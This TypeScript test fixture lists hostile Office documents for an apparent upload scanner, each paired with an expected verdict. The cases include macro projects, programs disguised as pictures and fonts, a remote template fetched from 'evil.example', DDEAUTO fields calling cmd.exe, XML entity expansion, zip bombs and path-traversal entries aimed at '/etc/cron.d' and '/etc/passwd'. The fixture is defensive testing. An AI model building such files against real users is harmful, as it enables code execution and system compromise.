import { gzipSync } from 'node:zlib'
import { overlappingArchive, packedRepeat } from '#support/spreadsheet/archive-maker.ts'
import { both, changed, type Hostile, MB, ole, program, zip } from './hostile-parts.ts'
import { contentTypes, docx, tie, ties, wordText } from './making.ts'

const macros = { name: 'word/vbaProject.bin', data: ole('VBA') }
const outside = ' TargetMode="External"'
const documentTies = (inside: string) => ({ name: 'word/_rels/document.xml.rels', data: ties(inside) })
const field = (...runs: string[]) =>
  docx({
    name: 'word/document.xml',
    data: wordText(runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join('')),
  })

export const offices: Hostile[] = [
  ['a Word file with macros', 'a.docx', () => docx(macros), 'evidence.has-macros'],
  [
    'a Word file with macros under another name',
    'a.docx',
    () =>
      docx(
        { name: 'word/theme.bin', data: 'x' },
        documentTies(
          '<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="theme.bin"/>',
        ),
      ),
    'evidence.has-macros',
  ],
  [
    'a Word file for macros',
    'a.docx',
    () =>
      docx({
        name: '[Content_Types].xml',
        data: contentTypes('', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      }),
    'evidence.has-macros',
  ],
  [
    'a workbook with sheets of macros',
    'a.xlsx',
    () => docx({ name: 'xl/macrosheets/sheet1.xml', data: '<x/>' }),
    'evidence.has-macros',
  ],
  [
    'a Word file with controls',
    'a.docx',
    () => docx({ name: 'word/activeX/activeX1.xml', data: '<x/>' }),
    'evidence.has-macros',
  ],
  [
    'a Word file with an object',
    'a.docx',
    () => docx({ name: 'word/embeddings/oleObject1.bin', data: ole('Package') }),
    'evidence.has-files-inside',
  ],
  [
    'a Word file with an object under another name',
    'a.docx',
    () => docx({ name: 'word/media/image1.bin', data: ole('Ole10Native') }),
    'evidence.has-files-inside',
  ],
  [
    'a Word file with a program as a picture',
    'a.docx',
    () => docx({ name: 'word/media/image1.png', data: program() }),
    'evidence.has-files-inside',
  ],
  [
    'a Word file with a program as a font',
    'a.docx',
    () => docx({ name: 'word/fonts/font1.odttf', data: program() }),
    'evidence.has-files-inside',
  ],
  [
    'a Word file with an archive inside',
    'a.docx',
    () => docx({ name: 'word/media/image1.png', data: zip() }),
    'evidence.has-files-inside',
  ],
  [
    'a Word file with an archive inside an archive',
    'a.docx',
    () => docx({ name: 'word/x.bin', data: gzipSync(zip()) }),
    'evidence.has-files-inside',
  ],
  [
    'a Word file that fetches its template elsewhere',
    'a.docx',
    () =>
      docx({
        name: 'word/_rels/settings.xml.rels',
        data: ties(tie('attachedTemplate', 'http://evil.example/t.dotm', outside)),
      }),
    'evidence.reaches-out',
  ],
  [
    'a Word file that fetches a picture elsewhere',
    'a.docx',
    () => docx(documentTies(tie('image', 'file://10.0.0.1/x.png', outside))),
    'evidence.reaches-out',
  ],
  [
    'a Word file that calls another program',
    'a.docx',
    () => field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe'),
    'evidence.reaches-out',
  ],
  [
    'a Word file that calls another program, in pieces',
    'a.docx',
    () => field('D', 'DE', 'AUTO c:\\\\cmd.exe'),
    'evidence.reaches-out',
  ],
  [
    'a workbook that calls another program',
    'a.xlsx',
    () =>
      docx({
        name: 'xl/externalLinks/externalLink1.xml',
        data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
    'evidence.reaches-out',
  ],
  [
    'a Word file with entities of its own',
    'a.docx',
    () =>
      docx({
        name: 'word/document.xml',
        data: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
      }),
    'evidence.unpacks-too-large',
  ],
  [
    'a Word file in UTF-16',
    'a.docx',
    () => docx({ name: 'word/document.xml', data: Buffer.from('\ufeff<a/>', 'utf16le') }),
    'evidence.damaged',
  ],
  [
    'a Word file that unpacks to 1 GB',
    'a.docx',
    () => docx({ name: 'word/media/image1.bmp', ...packedRepeat('', ' '.repeat(MB), 1000, '') }),
    'evidence.unpacks-too-large',
  ],
  [
    'a Word file of 200 MB in one word',
    'a.docx',
    () => docx({ name: 'word/document.xml', ...packedRepeat('<a>', 'a'.repeat(MB), 200, '</a>') }),
    'evidence.unpacks-too-large',
  ],
  [
    'a Word file that says ten bytes and unpacks to 1 GB',
    'a.docx',
    () => docx({ name: 'word/x.bmp', ...packedRepeat('', ' '.repeat(MB), 1000, ''), claims: 10 }),
    'evidence.unpacks-too-large',
  ],
  [
    'an archive whose entries share their bytes',
    'a.xlsx',
    () => overlappingArchive(2000, 'a'.repeat(MB)),
    'evidence.dishonest-archive',
  ],
  [
    'an archive of 6,000 entries',
    'a.docx',
    () => docx(...Array.from({ length: 6000 }, (_, at) => ({ name: `word/${at}.xml`, data: '<a/>' }))),
    'evidence.dishonest-archive',
  ],
  [
    'a Word file under a password within the archive',
    'a.docx',
    () => docx({ name: 'word/x.xml', data: '<a/>', flags: 1 }),
    'evidence.encrypted',
  ],
  [
    'a Word file with a path that leads out',
    'a.docx',
    () => docx({ name: '../../etc/cron.d/x', data: 'x' }),
    'evidence.dishonest-archive',
  ],
  [
    'a Word file with a path that begins at the root',
    'a.docx',
    () => docx({ name: '/etc/passwd', data: 'x' }),
    'evidence.dishonest-archive',
  ],
  [
    'a Word file with a path of Windows',
    'a.docx',
    () => docx({ name: 'word\\..\\x', data: 'x' }),
    'evidence.dishonest-archive',
  ],
  [
    'a Word file with one part twice',
    'a.docx',
    () => docx({ name: 'word/a.xml', data: '<a/>' }, { name: 'word/A.xml', data: '<b/>' }),
    'evidence.dishonest-archive',
  ],
  [
    'a Word file with two names for one part',
    'a.docx',
    () => changed(docx(), '_rels/.rels', '_rels/.relx'),
    'evidence.dishonest-archive',
  ],
  [
    'a Word file that is a workbook too',
    'a.docx',
    () => docx({ name: 'xl/workbook.xml', data: '<workbook/>' }),
    'evidence.dishonest-archive',
  ],
  ['a Word file with something behind', 'a.docx', () => both(docx(), 'hidden'), 'evidence.more-behind'],
  [
    'a Word file with something before',
    'a.docx',
    () => both('PK\x03\x04', Buffer.alloc(64), docx()),
    'evidence.dishonest-archive',
  ],
  ['a Word file that is cut off', 'a.docx', () => docx().subarray(0, -40), 'evidence.damaged'],
  [
    'a Word file of which one byte was changed',
    'a.docx',
    () =>
      docx({ name: 'word/x.xml', data: '<a>1</a>', stored: true }).map((byte, at, all) =>
        at === Buffer.from(all).indexOf('<a>1') + 3 ? 0x32 : byte,
      ),
    'evidence.damaged',
  ],
]
